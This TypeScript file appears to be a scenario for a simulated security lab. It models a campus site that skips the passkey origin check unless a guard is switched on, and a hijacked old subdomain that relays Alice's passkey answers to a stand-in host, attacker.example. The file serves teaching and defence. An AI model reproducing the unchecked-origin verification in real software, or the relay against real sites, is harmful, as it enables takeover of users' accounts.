// Campus that verifies everything about a passkey's answer but the origin it was given on.
import type { Opened, World } from '@/lib/lab/challenge'
import { CAMPUS, SESSION } from '@/lib/lab/world/campus'
import { json, page, routes, setCookie } from '@/lib/lab/world/http'
import { aliceAnswers, challenges, readAssertion } from '@/lib/lab/world/passkey'

/** A forgotten name of the same organization, whose server is Mallory's now. */
const OLD = 'https://old.campus.example'
const COLLECTOR = 'https://attacker.example/answers'

export function open(world: World): Opened {
  const given = challenges(world, { once: true })
  const sessions = new Set<string>()
  const site = routes({
    'POST /passkey/options': () => json({ challenge: given.issue(), rpId: 'campus.example' }),
    'POST /passkey/verify': async ({ request }) => {
      const client = readAssertion(await request.text())
      const isHere = !world.guarded || client?.origin === CAMPUS
      if (client?.type !== 'webauthn.get' || !isHere || !given.take(client.challenge))
        return json({ error: 'passkey_rejected' }, { status: 400 })
      const session = world.random('session')
      sessions.add(session)
      return json({ signedInAs: 'Alice' }, { cookies: [setCookie(SESSION, session)] })
    },
    'GET /api/me': ({ cookies }) =>
      sessions.has(cookies[SESSION] ?? '')
        ? json({ owner: 'Alice' })
        : json({ error: 'not_signed_in' }, { status: 401 }),
  })
  // Its page asks for a passkey with the challenge from its address, and sends on what it gets.
  const old = routes({
    'GET /': async ({ query }) => {
      const challenge = query.get('challenge')
      if (!challenge) return page('Campus', 'The page needs ?challenge=…')
      const body = JSON.stringify(aliceAnswers(challenge, OLD))
      await world.call('victim', new Request(COLLECTOR, { method: 'POST', body }))
      return page('Thank you, Alice', 'You are signed in.')
    },
  })
  const isIn = () => sessions.has(world.cookie('attacker', CAMPUS, SESSION) ?? '')
  return {
    hosts: { [CAMPUS]: site, [OLD]: old },
    isWon: isIn,
    victim: () => [
      isIn()
        ? { label: 'In her account', value: 'Mallory', tone: 'bad' }
        : { label: 'In her account', value: 'nobody else' },
      { label: 'Touches her sensor', value: 'on every page under campus.example' },
    ],
  }
}
